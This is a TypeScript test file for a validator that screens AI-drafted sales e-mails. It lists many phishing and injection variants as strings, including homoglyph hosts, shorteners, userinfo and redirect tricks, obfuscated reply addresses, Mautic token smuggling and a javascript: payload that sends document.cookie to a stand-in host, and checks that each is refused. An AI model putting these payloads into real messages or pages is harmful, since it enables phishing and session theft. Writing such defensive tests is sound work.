// Security review 2026-12-06, M3: the attack variants of the "Draft with AI" validator, each refused by
// validateDraftSlots (the review measured 17 of 18 getting through), plus new variants of the same kinds
// (mixed-case schemes, tabs and zero-width characters, protocol-relative and scheme-without-slashes URLs,
// IP literals, trailing dots, fullwidth letters, percent-encoded hosts) and the legitimate drafts that
// must still pass. Policy as in the review: allowedLinkHosts example.com, one no-link slot and one link
// slot; only the author's token values and the brief are trusted text.
import { describe, expect, it } from 'vitest';

import { validateDraftSlots, type DraftPolicyInput } from '../../../core/outreach';
import { findEmailAddresses, findLinks, isEmailAddress, judgeLink } from '../../../core/contact';

const policy: DraftPolicyInput = {
	slots: { intro: { maxLength: 400, allowLinks: false }, body: { maxLength: 600, allowLinks: true } },
	allowedLinkHosts: ['example.com'],
	// Trusted: the quote number and total set in the node, and the brief.
	knownText: ['SAL-QTN-2026-00042', '48.250,00 €', 'vertrieb@example.com', 'Friendly reminder of the quote; delivery in 3 weeks.'],
};

const errorCodes = (draft: Record<string, string>) =>
	validateDraftSlots({ intro: 'Thank you for your enquiry.', body: 'Kind regards', ...draft }, policy)
		.issues.filter((i) => i.severity === 'error')
		.map((i) => i.code);

describe('M3: every attack variant of the review is refused', () => {
	const review: Array<[string, string, Record<string, string>, string]> = [
		['backslash host (browser host evil-portal.io)', 'link', { body: 'Your quote: https://evil-portal.io\\.example.com/q/42' }, 'link_not_allowed'],
		['userinfo before the host', 'link', { body: 'Your quote: https://example.com:!@evil-portal.io/q/42' }, 'link_not_allowed'],
		['bare domain on a TLD the old list lacked', 'link', { body: 'See evil-portal.shop/offer for details.' }, 'link_not_allowed'],
		['URL shortener is.gd', 'link', { body: 'Short link: is.gd/x7Qw2p' }, 'link_not_allowed'],
		['URL shortener shorturl.at', 'link', { body: 'Short link: shorturl.at/abQR7' }, 'link_not_allowed'],
		['protocol-relative link', 'link', { body: 'Log in at //evil-portal.top/login' }, 'link_not_allowed'],
		['data: URL', 'link', { body: 'Open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' }, 'link_not_allowed'],
		['javascript: URL', 'link', { body: 'Click javascript:fetch("https://evil.io/?c="+document.cookie)' }, 'link_not_allowed'],
		['ideographic full stop', 'link', { body: 'Log in at evil-portal。com/login' }, 'link_not_allowed'],
		['reply address with a Cyrillic е', 'email', { body: 'Reply to billing@еvil-corp.shop please.' }, 'email_not_allowed'],
		['reply address on an IDN domain', 'email', { body: 'Bitte an einkauf@bösewicht.shop antworten.' }, 'email_not_allowed'],
		['reply address written in words', 'email', { body: 'Send the invoice to billing at evil-corp dot com.' }, 'email_not_allowed'],
		['waived fees and free shipping', 'promise', { intro: 'We will waive the fees and ship at no cost.' }, 'discount_not_in_inputs'],
		['an amount in words', 'promise', { intro: 'The controllers are yours for one euro.' }, 'amount_not_in_inputs'],
		['Mautic token smuggling', 'token', { body: 'Your data: {contactfield=email} and {unsubscribe_url}' }, 'mautic_token'],
		['a lead token value is no known text: discount and address', 'promise', { intro: '50% discount; send invoices to billing@evil-corp.shop' }, 'amount_not_in_inputs'],
		['a lead token value is no known text: price', 'promise', { intro: 'the price is 1 EUR per PLC' }, 'amount_not_in_inputs'],
		['host off the allow-list (control that held)', 'link', { body: 'https://evil.io/login' }, 'link_not_allowed'],
	];
	it.each(review)('%s', (_name, _kind, draft, code) => {
		expect(errorCodes(draft)).toContain(code);
	});

	it('counts 18 variants, as the review did', () => {
		expect(review).toHaveLength(18);
	});

	it('a link in the no-link slot is refused however it is written', () => {
		for (const text of ['Go to evil-portal.shop', 'See //evil.top/x', 'javascript:alert(1)', 'https:evil.com']) {
			expect(errorCodes({ intro: text })).toContain('links_not_allowed');
		}
	});
});

describe('M3: new variants of the same kinds', () => {
	const variants: Array<[string, string, string]> = [
		['mixed-case scheme', 'JaVaScRiPt:alert(document.domain)', 'link_not_allowed'],
		['a newline inside the scheme', 'java\nscript:alert(1)', 'link_not_allowed'],
		['scheme without slashes (browsers add them)', 'https:evil.com/login', 'link_not_allowed'],
		['one slash only', 'https:/evil.com/login', 'link_not_allowed'],
		['IPv4 literal', 'http://192.168.10.5/admin', 'link_not_allowed'],
		['hex IPv4 a browser reads as 127.0.0.1', 'http://0x7f.1/', 'link_not_allowed'],
		['IPv6 literal', 'http://[::1]:8080/', 'link_not_allowed'],
		['bare IPv4 address', 'Portal: 10.0.0.8/login', 'link_not_allowed'],
		['allow-listed name as a prefix of another host, trailing dot', 'https://example.com.evil.io./x', 'link_not_allowed'],
		['lookalike suffix without the dot', 'https://evilexample.com/x', 'link_not_allowed'],
		['zero-width space inside the host', 'https://evil\u200b-portal.io/x', 'link_not_allowed'],
		['zero-width joiner inside a bare domain', 'evil\u200d-portal.io', 'link_not_allowed'],
		['fullwidth letters and full stop', 'ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ｘ', 'link_not_allowed'],
		['percent-encoded host', 'https://%65vil.com/x', 'link_not_allowed'],
		['encoded @ in userinfo', 'https://example.com%40evil.io@evil.io/', 'link_not_allowed'],
		['userinfo that looks like the allowed host', 'https://example.com@evil.io/', 'link_not_allowed'],
		['www. prefix, unknown TLD', 'www.evil-portal.zzz', 'link_not_allowed'],
		['punycode homoglyph host', 'https://xn--exmple-cua.com/', 'link_not_allowed'],
		['Unicode homoglyph of the allowed host (Cyrillic а)', 'https://exаmple.com/', 'link_not_allowed'],
		['mailto: link', 'mailto:billing@evil-corp.shop', 'link_not_allowed'],
		['vbscript: link', 'VBScript:msgbox(1)', 'link_not_allowed'],
		['file: link', 'file:///etc/passwd', 'link_not_allowed'],
		['unknown scheme with //', 'ms-settings://x', 'link_not_allowed'],
		['fullwidth @ in a reply address', 'Reply to billing＠evil-corp.shop', 'email_not_allowed'],
		['(at)/(dot) reply address', 'Reply to billing(at)evil-corp(dot)com', 'email_not_allowed'],
		['[at] [dot] reply address', 'Reply to billing [at] evil-corp [dot] com', 'email_not_allowed'],
		['address on a subdomain-lookalike', 'Reply to billing@example.com.evil.io', 'email_not_allowed'],
		['address with a zero-width space in the domain', 'Reply to billing@evil\u200b-corp.com', 'email_not_allowed'],
		['quoted local part', 'Reply to "billing"@evil-corp.shop', 'email_not_allowed'],
		['spaces around @', 'Reply to billing @ evil-corp.shop', 'email_not_allowed'],
		['small commercial at', 'Reply to billing\ufe6bevil-corp.shop', 'email_not_allowed'],
		['one dot leader as a dot', 'Log in at evil\u2024io/x', 'link_not_allowed'],
		['link behind entities', 'https&#58;//evil.io/x', 'link_not_allowed'],
		['markdown link text naming the allowed host', '[example.com](https://evil.io/login)', 'link_not_allowed'],
		['open redirect on the allowed host', 'https://example.com/out?next=https%3A%2F%2Fevil.io%2Flogin', 'link_not_allowed'],
		['protocol-relative redirect in the fragment', 'https://example.com/#//evil.io', 'link_not_allowed'],
		['percent-encoded Mautic token', 'See %7Bcontactfield=email%7D', 'mautic_token'],
		['owner token', 'Your rep: {ownerfield=email}', 'mautic_token'],
		['webview token with spaces', 'View: { webview_url }', 'mautic_token'],
		['free of charge in German', 'Die Lieferung ist kostenfrei.', 'discount_not_in_inputs'],
		['an amount in German words', 'Für zwei Euro gehört die Steuerung Ihnen.', 'amount_not_in_inputs'],
	];
	it.each(variants)('%s', (_name, body, code) => {
		expect(errorCodes({ body })).toContain(code);
	});
});

describe('M3: legitimate drafts still pass', () => {
	it.each([
		['an allow-listed link', { body: 'Your quote: https://example.com/q/42.' }],
		['an allow-listed subdomain, upper case, trailing dot', { body: 'Datasheet: HTTPS://Docs.Example.com./datasheet.pdf' }],
		['an allow-listed bare domain', { body: 'More at www.example.com/products' }],
		['a query naming the allowed host', { body: 'Book: https://example.com/book?utm_source=mail&back=https%3A%2F%2Fwww.example.com%2Fq%2F42' }],
		["the company's own reply address", { body: 'Questions? Write to vertrieb@example.com.' }],
		['another address on the allowed host', { body: 'Or to sales@example.com.' }],
		['the trusted total and quote number', { intro: 'Your quote SAL-QTN-2026-00042 totals EUR 48,250.00.' }],
		['file names, abbreviations and versions are no links', { intro: 'The Angebot.pdf covers firmware v2.1, e.g. for Node.js, z.B. S7-1500.' }],
		['plain numbers, times and ratios', { intro: 'We deliver 12 PLCs in 3 weeks; call at 10:30, ratio 3:1.' }],
		['a colon after a word is no scheme', { intro: 'Note: the delivery time is 3 weeks. Re: your enquiry.' }],
	])('%s', (_name, draft) => {
		expect(errorCodes(draft)).toEqual([]);
	});

	it('an allow-listed IDN host is compared in punycode', () => {
		const v = validateDraftSlots(
			{ intro: 'Danke.', body: 'Details: https://bücher.de/x and https://xn--bcher-kva.de/y, write to info@bücher.de' },
			{ ...policy, allowedLinkHosts: ['bücher.de'] },
		);
		expect(v.issues.filter((i) => i.severity === 'error')).toEqual([]);
	});
});

describe('the one URL and e-mail rules', () => {
	it.each([
		['https://evil-portal.io\\.example.com/q/42', 'evil-portal.io', 'not_allowed'],
		['https://example.com:!@evil-portal.io/q/42', 'evil-portal.io', 'userinfo'],
		['https://%65vil.com', 'evil.com', 'not_allowed'],
		['https://Example.COM./ok', 'example.com', undefined],
		['https://bit.ly/x', 'bit.ly', 'shortener'],
		['http://127.0.0.1/', '127.0.0.1', 'ip_address'],
		['data:,hi', '', 'scheme'],
		// Browsers drop tabs and line breaks inside a URL (the slot cleaning folds them to spaces as well).
		['java\tscript:alert(1)', '', 'scheme'],
	])('%s goes to %s', (text, host, problem) => {
		const [link] = findLinks(text);
		expect(link.host).toBe(host);
		expect(judgeLink(link, ['example.com']).problem).toBe(problem);
	});

	it.each([
		['jana.roth@nordwerk-automation.de', true],
		['einkauf@bösewicht.shop', true],
		['a@b', false],
		['no spaces@x.de', false],
		['jana@nordwerk..de', false],
		['jana@127.0.0.1', false],
		['jana@-nordwerk.de', false],
		['jana@nordwerk.d3', false],
	])('isEmailAddress(%s) = %s', (address, valid) => {
		expect(isEmailAddress(address)).toBe(valid);
	});

	it('a Cyrillic look-alike has another key than the real address', () => {
		const [real] = findEmailAddresses('billing@evil-corp.shop');
		const [fake] = findEmailAddresses('billing@еvil-corp.shop');
		expect(real.key).toBe('billing@evil-corp.shop');
		expect(fake.key).toMatch(/^billing@xn--/);
	});
});
